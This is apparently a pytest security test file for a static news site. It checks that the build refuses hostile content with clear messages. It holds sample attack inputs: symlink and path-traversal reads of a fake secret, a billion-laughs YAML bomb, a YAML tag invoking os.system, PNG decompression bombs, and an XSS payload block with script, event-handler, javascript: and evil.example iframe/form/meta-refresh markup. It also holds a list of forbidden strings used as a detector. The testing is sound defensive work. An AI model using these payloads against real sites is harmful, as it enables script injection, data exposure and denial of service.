"""Hostile and broken input: nothing outside content/ is read, nothing hangs, nothing crashes, no raw HTML harms.

One table holds every case. Each row breaks a copy of the project (its code and its
content) in one way, then runs the editor's two commands there, `invoke check` and
`invoke build`: both must stop with the row's `path:line: what — how to fix` and no
traceback. Hostile files point only at files the test makes beside the copy.
"""

import os
import shutil
import struct
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest
from pelican.settings import read_settings

from laceps import PROJECT_ROOT
from laceps.checks import check_content
from tests.content_copy import build, copy_content, make_photo
from tests.reading import site_pages

INVOKE = Path(sys.executable).with_name("invoke")  # the project's own, as `uv run invoke` runs it
CODE = ("laceps", "theme", "tasks.py", "pelicanconf.py", "publishconf.py", "pyproject.toml")
NEWS = "content/news/hostile.md"
PAGE = "content/pages/hostile.md"
MEMBERS = "content/data/members.yaml"
HEADER = "Title: A sample item\nDate: 2025-01-02\nCategory: News Stories\nSource: LACEPS\n"
BOMB_SECONDS = 2  # the checks refuse a bomb at once, whatever it would expand to
COMMAND_SECONDS = 20  # a whole command on a bomb: start-up, the checks, the message
# Each line holds nine of the line before: ten lines stand for a billion "ha".
BILLION_LAUGHS = "members:\n  - &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha]\n" + "".join(
    f"  - &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10)
)


def news(body):
    return f"{HEADER}\n{body}\n"


def page(*fields):
    return "Title: A sample page\n" + "".join(f"{field}\n" for field in fields) + "\nSome text.\n"


MEMBERS_TEXT = (PROJECT_ROOT / MEMBERS).read_text(encoding="utf-8")
ADDED = len(MEMBERS_TEXT.splitlines())  # the line before the first one members_with() adds


def members_with(*lines):
    return MEMBERS_TEXT + "".join(f"{line}\n" for line in lines)


def png_claiming(width, height):
    """A tiny PNG whose header claims `width`×`height` pixels: a decompression bomb, as an image reader sees it."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def write(relative, text=None, data=None):
    def change(project):
        path = project / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if data is not None else text.encode("utf-8"))

    return change


def link(relative, target):
    """A symbolic link in the copy, to `target` (relative to the copy's folder)."""

    def change(project):
        (project / relative).symlink_to(project / target)

    return change


def both(*changes):
    def change(project):
        for one in changes:
            one(project)

    return change


OUTSIDE = "../outside"  # from the copy: a folder beside it, with a secret and a photo (made by project_copy)
NESTED_LIST = "".join("    " * level + "- item\n" for level in range(600))
TOO_LARGE = "figures: []\n" + "# padding\n" * 110_000
TRACKING_LINK = "[x](https://example.org/" + "[a" * 20_000 + ")"
LAUGH_LINE = 2  # the first anchor

# id: (change to the project copy, the expected `path:line: what` (None: the build must pass), a bomb?)
CASES = {
    # 1. Nothing outside content/ is read or published.
    "symlink to a secret": (link("content/extra/environ", f"{OUTSIDE}/secret.txt"),
                            "content/extra/environ:1: this is a symbolic link, not a file", False),
    "symlinked folder": (link("content/news/elsewhere", OUTSIDE), "content/news/elsewhere:1: this is a symbolic link, not a file", False),
    "{static} link outside": (write(NEWS, news("See [the secret]({static}/../../outside/secret.txt).")),
                              f"{NEWS}:6: link to '/../../outside/secret.txt' leads outside the content folder", False),
    "{filename} link outside": (write(NEWS, news("See [the secret]({filename}../../../outside/secret.txt).")),
                                f"{NEWS}:6: link to '../../../outside/secret.txt' leads outside the content folder", False),
    "image outside": (write(NEWS, news("![A sample photo](../../../outside/photo.jpg)")),
                      f"{NEWS}:6: image ../../../outside/photo.jpg is outside the content folder", False),
    "raw <img> outside": (write(NEWS, news('<img src="../../../outside/photo.jpg" alt="A sample photo">')),
                          f"{NEWS}:6: image ../../../outside/photo.jpg is outside the content folder", False),
    "logo outside": (write(MEMBERS, members_with("  - name: Example Network", "    description: A sample.",
                                                 "    logo: ../../outside/photo.jpg")),
                     f"{MEMBERS}:{ADDED + 3}: logo ../../outside/photo.jpg is outside the content folder", False),
    # 2. Bounded work for any input.
    "billion laughs": (write(MEMBERS, BILLION_LAUGHS),
                       f"{MEMBERS}:{LAUGH_LINE}: this line uses a YAML anchor (&), alias (*) or tag (!)", True),
    "billion laughs in another data file": (write("content/data/extra.yaml", BILLION_LAUGHS),
                                            "content/data/extra.yaml:1: the site has no use for this data file", True),
    "YAML tag": (write(MEMBERS, "members: !!python/object/apply:os.system ['true']\n"),
                 f"{MEMBERS}:1: this line uses a YAML anchor (&), alias (*) or tag (!)", False),
    "decompression bomb": (both(write("content/news/bomb.png", data=png_claiming(100_000, 100_000)),
                                write(NEWS, news("![A sample photo](bomb.png)"))),
                           f"{NEWS}:6: image bomb.png has more than 60 megapixels", True),
    "100-megapixel image": (both(write("content/news/large.png", data=png_claiming(10_000, 10_000)),
                                write(NEWS, news("![A sample photo](large.png)"))),
                           f"{NEWS}:6: image large.png has more than 60 megapixels", True),
    "decompression bomb as a logo": (both(write("content/images/bomb.png", data=png_claiming(100_000, 100_000)),
                                          write(MEMBERS, members_with("  - name: Example Network", "    description: A sample.",
                                                                      "    logo: images/bomb.png"))),
                                     f"{MEMBERS}:{ADDED + 3}: logo images/bomb.png has more than 60 megapixels", True),
    "text file too large": (write("content/data/site.yaml", TOO_LARGE), "content/data/site.yaml:1: this file is larger than 1 MB", True),
    "600 levels of lists": (write(NEWS, news(NESTED_LIST)), f"{NEWS}:56: this line is nested more than 50 levels deep", True),
    "20,000 unclosed brackets": (write(NEWS, news(TRACKING_LINK)),
                                 f"{NEWS}:6: this paragraph opens more than 50 brackets [ or ( that it never closes", True),
    # 4. No traceback for any content mistake.
    "invalid UTF-8 in a news item": (write(NEWS, data=news("Caf\xe9 au lait.").encode("latin-1")),
                                     f"{NEWS}:6: this line has characters that are not UTF-8 text", False),
    "invalid UTF-8 in a data file": (write(MEMBERS, data=members_with("  - name: Caf\xe9", "    description: A sample.").encode("latin-1")),
                                     f"{MEMBERS}:{ADDED + 1}: this line has characters that are not UTF-8 text", False),
    "10,000-character title": (write(NEWS, news("Text.").replace("A sample item", "A" * 10_000)),
                               f"{NEWS}:1: this news item's address is longer than 200 characters", False),
    "raw <img> to a missing file": (write(NEWS, news('<img src="missing.jpg" alt="A sample photo">')),
                                    f"{NEWS}:6: image missing.jpg: that file does not exist", False),
    "Save_as robots.txt": (write(PAGE, page("Save_as: robots.txt")),
                           f'{PAGE}:2: this page would be written to "robots.txt", which the build writes for ROBOTS_SAVE_AS', False),
    "Save_as _headers": (write(PAGE, page("Save_as: _headers")),
                         f'{PAGE}:2: this page would be written to "_headers", which the build writes for HEADERS_SAVE_AS', False),
    "Save_as sitemap.xml": (write(PAGE, page("Save_as: sitemap.xml")),
                            f'{PAGE}:2: this page would be written to "sitemap.xml", which the build writes for the sitemap', False),
    "Save_as a feed": (write(PAGE, page("Save_as: feeds/news-stories.atom.xml")),
                       f'{PAGE}:2: this page would be written to "feeds/news-stories.atom.xml", which the build writes for the feeds', False),
    "Save_as in theme/": (write(PAGE, page("Save_as: theme/site.css")),
                          f'{PAGE}:2: this page would be written to "theme/site.css", which the build writes for the theme', False),
    "Save_as in images/": (write(PAGE, page("Save_as: images/photo.jpg")),
                           f'{PAGE}:2: this page would be written to "images/photo.jpg", which the build writes for the images', False),
    "Save_as in pagefind/": (write(PAGE, page("Save_as: pagefind/pagefind.js")),
                             f'{PAGE}:2: this page would be written to "pagefind/pagefind.js", which the build writes for the search index', False),
    "Save_as in share-cards/": (write(PAGE, page("Save_as: share-cards/home.png")),
                                f'{PAGE}:2: this page would be written to "share-cards/home.png", which the build writes for the share cards', False),
    "Save_as the favicon": (write(PAGE, page("Save_as: favicon.svg")),
                            f'{PAGE}:2: this page would be written to "favicon.svg", which the build writes for content/extra/favicon.svg', False),
    "Save_as a news section": (write(PAGE, page("Save_as: news/press-releases/index.html")),
                               f'{PAGE}:2: this page would be written to "news/press-releases/index.html", which the build writes for the news section', False),
    "Slug of the Spanish site": (write(PAGE, page("Slug: es")),
                                 f'{PAGE}:2: this page would be written to "es/index.html", which the build writes for the site in that language', False),
    "Save_as another page's": (write(PAGE, page("Save_as: about-us/index.html")),
                               f'{PAGE}:2: this page has the same address "about-us/index.html" as content/pages/about-us.md', False),
    "Save_as outside the site": (write(PAGE, page("Save_as: ../../outside/page.html")),
                                 f'{PAGE}:2: Save_as "../../outside/page.html" leads outside the site', False),
    "URL robots.txt": (write(PAGE, page("URL: robots.txt")),
                       f'{PAGE}:2: URL "robots.txt" leads to what the build writes for ROBOTS_SAVE_AS', False),
    "byte order mark": (write(NEWS, data="\ufeff".encode() + news("A body.").encode()), None, False),
}


def project_copy(folder):
    """A copy of the project (its code and content) in `folder`/project, with a folder of outside files beside it."""
    project = folder / "project"
    project.mkdir()
    for name in CODE:
        source = PROJECT_ROOT / name
        if source.is_dir():
            shutil.copytree(source, project / name, ignore=shutil.ignore_patterns("__pycache__", "*.mo"))
        else:
            shutil.copy2(source, project / name)
    copy_content(project)
    outside = folder / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("AWS_SECRET_ACCESS_KEY=not-a-real-key\n")
    make_photo(outside / "photo.jpg", (64, 48))
    return project


def run(project, task):
    started = time.monotonic()
    result = subprocess.run([str(INVOKE), task], cwd=project, capture_output=True, text=True, timeout=120)
    return result, result.stdout + result.stderr, time.monotonic() - started


@pytest.mark.parametrize("case", CASES)
def test_hostile_input_is_refused_with_a_message(case, tmp_path, monkeypatch):
    change, expected, bomb = CASES[case]
    project = project_copy(tmp_path)
    change(project)
    if bomb:  # the checks alone, timed without the start-up of a command
        monkeypatch.chdir(project)
        started = time.monotonic()
        check_content(read_settings(str(project / "pelicanconf.py"), override={"PATH": str(project / "content")}))
        assert time.monotonic() - started < BOMB_SECONDS
    for task in ("check", "build"):
        result, output, seconds = run(project, task)
        assert "Traceback" not in output and "Warning:" not in output, f"invoke {task}:\n{output}"
        assert not bomb or seconds < COMMAND_SECONDS, f"invoke {task} took {seconds:.1f} s"
        if expected is None:
            assert result.returncode == 0, f"invoke {task}:\n{output}"
        else:
            assert result.returncode != 0, f"invoke {task}:\n{output}"
            assert expected in output, f"invoke {task}:\n{output}"
    published = [path for path in (project / "output").rglob("*") if path.is_file()]
    assert not any("not-a-real-key" in path.read_text(errors="replace") for path in published)


# --- Raw HTML ------------------------------------------------------------------------------
DANGEROUS = """
<script>alert("script")</script>
<img src="photo.jpg" onerror="alert('onerror')" alt="A sample photo">

[a script link](javascript:alert('javascript-link')) and [mixed case](JaVaScRiPt:alert('mixed-case'))
and [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)

A paragraph with attributes.
{: onclick="alert('attr-list')" style="color: red" }

<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<form action="https://evil.example/"><input name="q"></form>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<svg onload="alert('svg')"><circle r="1"/></svg>
<div onmouseover="alert('hover')">Hover text stays.</div>
"""
ALLOWED = """
## A safe heading

Text with *emphasis*, **strength**, `code`, an HTML abbreviation, a footnote[^1],
[a link out](https://example.org/story) and [a page of the site]({filename}/pages/about-us.md).

> A quotation.

| Column | Other |
| --- | --- |
| 1 | 2 |

*[HTML]: HyperText Markup Language

[^1]: The footnote, with its source.
"""
# What must not reach any page or feed, in any form (feeds hold the bodies escaped).
FORBIDDEN = ("alert(", "evil.example", "javascript:", "data:text/html", "onerror", "onclick", "onload",
             "onmouseover", "<iframe", "<object", "<embed", "<base", 'http-equiv="refresh"')


@pytest.fixture(scope="module")
def built_with_raw_html(tmp_path_factory):
    folder = tmp_path_factory.mktemp("raw-html")
    content = copy_content(folder)
    make_photo(content / "news/photo.jpg", (640, 480))
    make_photo(content / "pages/photo.jpg", (640, 480))
    (content / "news/2025-01-02-hostile.md").write_text(news(DANGEROUS + ALLOWED), encoding="utf-8")
    (content / "pages/hostile.md").write_text("Title: A hostile page\n\n" + DANGEROUS + ALLOWED, encoding="utf-8")
    return build(content, folder)


def test_no_dangerous_html_reaches_a_page_or_a_feed(built_with_raw_html):
    feeds = list(built_with_raw_html.glob("**/*.atom.xml"))
    assert feeds, "the production build has feeds"
    # Every page that shows content (the web editor's page shows none, and says "JavaScript: turn it on").
    for path in [*(built_with_raw_html / page for page in site_pages(built_with_raw_html)), *feeds]:
        text = path.read_text(encoding="utf-8")
        found = [word for word in FORBIDDEN if word.lower() in text.lower()]
        assert not found, f"{path.relative_to(built_with_raw_html)}: {found}"


@pytest.mark.parametrize("page", ["news/2025/a-sample-item/index.html", "a-hostile-page/index.html"])
def test_the_markup_editors_use_survives(built_with_raw_html, page):
    text = (built_with_raw_html / page).read_text(encoding="utf-8")
    for kept in ('<h2 id="a-safe-heading">', "<em>emphasis</em>", "<strong>strength</strong>", "<code>code</code>",
                 '<abbr title="HyperText Markup Language">', '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">',
                 '<li id="fn:1">', '<a href="https://example.org/story">', 'href="https://lacfeps.org/about-us/"',
                 "<blockquote>", "<table>", "<td>1</td>", 'alt="A sample photo"', "<picture>", "Hover text stays."):
        assert kept in text, kept


def test_the_checks_run_before_anything_reads_the_content():
    """pelican-data-files loads every data file with PyYAML's own loader: only content that passed the checks may reach it."""
    settings = read_settings(str(PROJECT_ROOT / "pelicanconf.py"))
    assert settings["PLUGINS"][0].__name__ == "laceps.plugins.quality"


def test_a_symlink_is_shown_by_its_own_name(tmp_path, monkeypatch):
    project = project_copy(tmp_path)
    link("content/extra/environ", f"{OUTSIDE}/secret.txt")(project)
    monkeypatch.chdir(project)
    problems = check_content(read_settings(str(project / "pelicanconf.py"), override={"PATH": str(project / "content")}))
    assert [problem.path for problem in problems] == [os.path.join("content", "extra", "environ")]
